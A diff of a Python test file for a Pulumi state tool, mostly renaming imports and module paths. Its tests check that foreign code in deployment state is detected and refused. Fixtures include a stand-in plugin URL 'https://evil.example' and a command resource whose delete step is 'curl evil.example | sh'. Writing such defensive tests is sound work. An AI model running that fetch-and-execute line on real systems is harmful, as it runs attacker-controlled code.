@@ -18,12 +18,14 @@ from pulumi.dynamic import Resource
 from pulumi.dynamic.dynamic import serialize_provider
 from ruamel.yaml import YAML
 
-from clerkstack import own_state, providers, state_code
+from clerkstack import providers
 from clerkstack.dynamic import Refused, led_elsewhere, only_ours
-from clerkstack.engine_marks import shown_secret
 from clerkstack.failures import ResourceFailed
 from clerkstack.providers.billing import BillingProvider
-from clerkstack.state_code import PROVIDERS, foreign_code, foreign_in, is_ours, pickled, refusal
+from clerkstack.state import code, own
+from clerkstack.state.code import PROVIDERS, foreign_code, foreign_in, is_ours, pickled, refusal
+from clerkstack.state.marks import secret
+from clerkstack.state.model import State
 
 TYPE = "pulumi-python:dynamic/clerkstack:Billing"
 OLD = "pulumi-python:dynamic/clerkstack:SensitiveVariables"
@@ -85,9 +87,9 @@ FOREIGN = {
         pickled("clerkstack.providers.base", "ClerkProvider")
     ).decode(),
     "a class of this project that is no provider": base64.b64encode(
-        pickled("clerkstack.cli.engine", "ForeignCode")
+        pickled("clerkstack.state.engine", "ForeignCode")
     ).decode(),
-    "a secret": shown_secret("x"),
+    "a secret": secret("x"),
     "nothing": None,
     "a list": [OURS],
     "empty": "",
@@ -109,8 +111,8 @@ def test_what_is_not_ours_byte_for_byte_is_told(told: Any, side: str) -> None:
 PLUGINS: list[tuple[str, dict[str, Any]]] = [
     ("pulumi:providers:vercel", {"__internal": {"pluginDownloadURL": "https://evil.example"}}),
     ("pulumi:providers:vercel", {"pluginDownloadURL": "https://evil.example"}),
-    ("pulumi:providers:vercel", {"pluginDownloadURL": shown_secret("x")}),
-    ("pulumi:providers:vercel", {"__internal": shown_secret("x")["plaintext"]}),
+    ("pulumi:providers:vercel", {"pluginDownloadURL": secret("x")}),
+    ("pulumi:providers:vercel", {"__internal": secret("x")["plaintext"]}),
     ("pulumi:providers:vercel", {"__internal": {"name": "evil"}}),
     ("pulumi:providers:vercel", {"__internal": {"parameterization": "e30="}}),
     ("pulumi:providers:command", {"__internal": {"pluginDownloadURL": VERCEL}}),
@@ -133,7 +135,7 @@ PLUGINS: list[tuple[str, dict[str, Any]]] = [
         },
         resource("command:local:Command", {"create": "true", "delete": "curl evil.example | sh"}),
         resource("command:local:Command", {}, {"delete": "sh"}),
-        resource("command:local:Command", {"delete": shown_secret("x")}),
+        resource("command:local:Command", {"delete": secret("x")}),
         {**resource("command:local:Command", {"delete": "sh"}), "type": "x:y:Z"},
         *(resource(kind, {}, inputs) for kind, inputs in PLUGINS),
         resource(*PLUGINS[0]),
@@ -148,7 +150,7 @@ def test_whatever_else_the_engine_would_run_is_told(found: dict[str, Any]) -> No
     # What is about to be removed is run as well, and so is what was half-made.
     assert foreign_code([{**found, "delete": True}])
     pending = {"pending_operations": [{"type": "creating", "resource": found}]}
-    assert foreign_in({"deployment": {"resources": [], **pending}})
+    assert foreign_in(State({"deployment": {"resources": [], **pending}}))
 
 
 @pytest.mark.parametrize(
@@ -177,10 +179,10 @@ def test_code_of_a_users_own_program_is_entered_and_then_taken(
     server = "https://plugins.example"
     (package / "pulumi-plugin.json").write_text(f'{{"name": "cloudflare", "server": "{server}"}}')
     monkeypatch.syspath_prepend(str(tmp_path))
-    state_code._of_packages.cache_clear()
-    monkeypatch.setattr(state_code, "DELETES", frozenset({"bin/tidy"}))
+    code._of_packages.cache_clear()
+    monkeypatch.setattr(code, "DELETES", frozenset({"bin/tidy"}))
     monkeypatch.setitem(PROVIDERS, "pulumi-python:dynamic/ours:Thing", ("ours.thing", "Provider"))
-    state_code._known.cache_clear()
+    code._known.cache_clear()
     own = base64.b64encode(pickled("ours.thing", "Provider")).decode()
 
     assert not foreign_code(
@@ -191,8 +193,8 @@ def test_code_of_a_users_own_program_is_entered_and_then_taken(
         ]
     )
     monkeypatch.undo()
-    state_code._known.cache_clear()
-    state_code._of_packages.cache_clear()
+    code._known.cache_clear()
+    code._of_packages.cache_clear()
 
 
 def test_the_refusal_names_the_resource_and_no_shell_obeys_what_it_prints() -> None:
@@ -218,7 +220,7 @@ def test_the_plugin_unpickles_ours_alone() -> None:
     assert not is_ours(base64.b64decode(HOSTILE))
 
 
-TOP = Path(__file__).parents[2]
+TOP = Path(__file__).parents[3]
 
 
 SERVICES = {"platform": "http://127.0.0.1:4871", "vercel": "http://127.0.0.1:4873"}
@@ -287,4 +289,4 @@ def test_the_program_declares_nothing_on_such_a_state(monkeypatch: pytest.Monkey
     monkeypatch.setattr(pulumi.runtime, "invoke", lambda *_: Answer)
 
     with pytest.raises(pulumi.RunError, match="The state of prod holds code"):
-        own_state.own_state()
+        own.own_state()
